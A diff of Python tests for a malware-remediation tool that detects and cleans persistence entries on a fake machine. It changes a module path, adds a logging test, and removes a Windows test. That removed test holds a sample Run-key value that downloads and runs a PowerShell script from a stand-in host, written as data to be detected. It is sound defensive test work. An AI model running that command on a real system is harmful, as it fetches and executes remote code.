@@ -1,4 +1,4 @@
-"""Tests of scanner.persistence against a fake machine built under tmp_path.
+"""Tests of scanner.remediation.persistence against a fake machine built under tmp_path.
 
 Every test passes a temporary sysroot; nothing outside tmp_path is read or written
 (``test_reads_nothing_outside_the_sysroot`` checks that with an audit hook).
@@ -7,6 +7,7 @@ Every test passes a temporary sysroot; nothing outside tmp_path is read or writt
 from __future__ import annotations
 
 import hashlib
+import logging
 import os
 import stat
 import sys
@@ -32,18 +33,12 @@ from scanner.remediation.persistence import (
     RemoveLines,
     RemovePreloadEntry,
     SystemdReload,
-    WindowsActionKind,
-    WindowsEntry,
-    WindowsKind,
     apply_action,
     classify_paths,
     find_persistence,
-    find_windows_persistence,
     list_locations,
     parse_entries,
     plan_cleanup,
-    plan_windows_cleanup,
-    reloads_needed,
     restore_links,
 )
 
@@ -326,8 +321,9 @@ def test_apply_cleans_only_what_was_planned_and_undo_restores_everything(machine
     assert (machine / "etc/cron.d/sysstat").exists()
     assert not list(machine.rglob("*scanner-tmp*"))
 
-    assert SystemdReload() in reloads_needed(outcomes)
-    assert SystemdReload(True, "alice") in reloads_needed(outcomes)
+    reloads = {o.reload for o in outcomes if o.status is OutcomeStatus.DONE}
+    assert SystemdReload() in reloads
+    assert SystemdReload(True, "alice") in reloads
     assert {o.stop_unit for o in outcomes if o.stop_unit} == {
         "kdevtmpfsi.service",
         "kdevtmpfsi.timer",
@@ -618,43 +614,6 @@ def test_missing_sysroot_is_an_error(tmp_path: Path) -> None:
         find_persistence(tmp_path / "nope", ())
 
 
-# --------------------------------------------------------------------------- Windows (planning on data only)
-
-
-def test_windows_matching_and_planning_on_data() -> None:
-    env = {"SystemRoot": r"C:\Windows", "APPDATA": r"C:\Users\bob\AppData\Roaming"}
-
-    def entry(kind: WindowsKind, name: str, command: str) -> WindowsEntry:
-        return WindowsEntry(kind, r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run", name, command, "fp")
-
-    run = entry(WindowsKind.RUN_KEY, "Updater", r'"%APPDATA%\Sys Update\upd.exe" /silent')
-    service = entry(WindowsKind.SERVICE, "WinHlp", r"\SystemRoot\System32\winhlp64.exe -k")
-    task = entry(WindowsKind.SCHEDULED_TASK, "Sync", r"rundll32.exe C:/Users/bob/AppData/Roaming/x.dll,Start")
-    marked = entry(WindowsKind.RUN_KEY, "Pwsh", "powershell -c iex(iwr http://bad.example.net/a.ps1)")
-    legit = entry(WindowsKind.RUN_KEY, "OneDrive", r'"C:\Users\bob\AppData\Local\OneDrive\OneDrive.exe" /background')
-    near = entry(WindowsKind.RUN_KEY, "Near", r"C:\Windows\System32\winhlp64.exe.bak")
-    detected_paths = {
-        r"C:\Users\bob\AppData\Roaming\Sys Update\upd.exe": "agenttesla",
-        r"c:\windows\system32\WINHLP64.EXE": "xmrig",
-        r"C:\Users\bob\AppData\Roaming\x.dll": "qakbot",
-    }
-    findings = find_windows_persistence([run, service, task, marked, legit, near], detected_paths, MARKERS, env)
-    assert [(f.entry.name, f.reason, f.family) for f in findings] == [
-        ("Updater", Reason.RUNS_DETECTED_FILE, "agenttesla"),
-        ("WinHlp", Reason.RUNS_DETECTED_FILE, "xmrig"),
-        ("Sync", Reason.RUNS_DETECTED_FILE, "qakbot"),
-        ("Pwsh", Reason.FAMILY_MARKER, "kinsing"),
-    ]
-    actions = plan_windows_cleanup(findings + findings)
-    assert [a.kind for a in actions] == [
-        WindowsActionKind.DELETE_VALUE,
-        WindowsActionKind.DELETE_VALUE,
-        WindowsActionKind.DELETE_TASK,
-        WindowsActionKind.STOP_AND_DELETE_SERVICE,
-    ]
-    assert all("\n" not in a.describe() for a in actions)
-
-
 def test_outcome_types_round_trip_into_reports(machine: Path, tmp_path: Path) -> None:
     """Outcomes carry the action, so a report can say what was done to which file."""
     result = find_persistence(machine, detected(machine, HIDER))
@@ -662,3 +621,15 @@ def test_outcome_types_round_trip_into_reports(machine: Path, tmp_path: Path) ->
     assert isinstance(action, RemovePreloadEntry) and action.describe().startswith(f"remove preload entry {HIDER}")
     outcome = apply_action(action, Vault(tmp_path / "v").backup, clock)
     assert outcome.action is action and outcome.reload is None and outcome.backup_ids == ("b0",)
+
+
+def test_each_decision_is_logged(machine: Path, caplog: pytest.LogCaptureFixture) -> None:
+    """A user can ask why: a file losing lines, a line only mentioned, a refused change."""
+    caplog.set_level(logging.INFO, logger="scanner.remediation.persistence")
+    result = find_persistence(machine, detected(machine, USER_MINER), MARKERS)
+    assert "/home/alice/.bashrc to lose line(s) 5: a shell startup file only ever loses lines" in caplog.text
+    (action,) = [a for a in plan_cleanup(result.findings) if a.path == "/home/alice/.bashrc"]
+    (machine / "home/alice/.bashrc").write_bytes(BASHRC + b"alias la='ls -A'\n")
+    caplog.clear()
+    apply_action(action, lambda path: "id", clock)
+    assert f"{action.describe()}: refused: {machine}/home/alice/.bashrc changed since the scan" in caplog.text
